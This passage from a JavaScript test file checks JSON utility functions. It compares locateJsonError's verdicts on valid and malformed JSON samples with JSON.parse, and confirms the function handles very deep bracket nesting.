    expect(formatJsonPath(['a b', 1])).toBe('["a b"][1]');
  });

  it('locateJsonError agrees with JSON.parse on what is valid', () => {
    const samples = ['{}', '[]', '{"a":[1,2,{"b":null}],"c":"\\u00e9\\n"}', '-0.5e+10', ' true ', '[1,]', '{"a":1,}', '{"a"}', '[01]', '"\\x"', '[1 2]', 'nul', '{"a":1}}', '[[[[', '"\t"'];
    for (const s of samples) {
      let ok = true;
      try {
        JSON.parse(s);
      } catch {
        ok = false;
      }
      expect(locateJsonError(s) === null, s).toBe(ok);
    }
  });

  it('locateJsonError survives deep nesting', () => {
    expect(locateJsonError('['.repeat(200_000))).toEqual({ offset: 200_000, message: 'unexpected end of the file where a value was expected' });
  });
});
